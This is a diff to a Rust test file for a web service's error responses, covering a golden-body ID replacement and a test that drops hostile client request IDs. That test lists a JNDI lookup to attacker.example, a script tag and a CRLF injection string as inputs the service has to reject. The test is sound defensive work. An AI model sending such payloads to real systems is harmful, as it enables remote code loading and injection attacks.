@@ -13,7 +13,7 @@ fn assert_golden(path: &str, status: u16, body: &str) -> (Posted, Value) {
     let (posted, record) = shop(path);
     assert_eq!(posted.to, "response");
     assert_eq!(posted.json["statusCode"], status);
-    assert_eq!(posted.body(), body.replace("ID", FIRST_ID));
+    assert_eq!(posted.body(), body.replace("\"ID\"", &format!("\"{FIRST_ID}\"")));
     assert_eq!(posted.header("content-type"), Some("application/problem+json"));
     assert_eq!(posted.header("cache-control"), Some("no-store"));
     assert_eq!(posted.header("x-content-type-options"), Some("nosniff"));
@@ -163,8 +163,16 @@ fn an_id_of_the_client_counts_only_if_it_is_trusted() {
 
 #[test]
 fn a_hostile_id_is_dropped() {
-    for hostile in ["${jndi:ldap://attacker.example/x}", "<script>alert(1)</script>", "a%0d%0aERROR"] {
-        let (posted, record) = invoke("shop that trusts", &[request("GET", "/constant", &[("x-request-id", hostile)])]).one();
+    for hostile in [
+        "${jndi:ldap://attacker.example/x}",
+        "<script>alert(1)</script>",
+        "a%0d%0aERROR",
+    ] {
+        let (posted, record) = invoke(
+            "shop that trusts",
+            &[request("GET", "/constant", &[("x-request-id", hostile)])],
+        )
+        .one();
         assert_eq!(posted.header("x-request-id"), Some(FIRST_ID));
         assert_eq!(record["client_request_id"], Value::Null);
         assert!(!posted.text.contains(hostile));
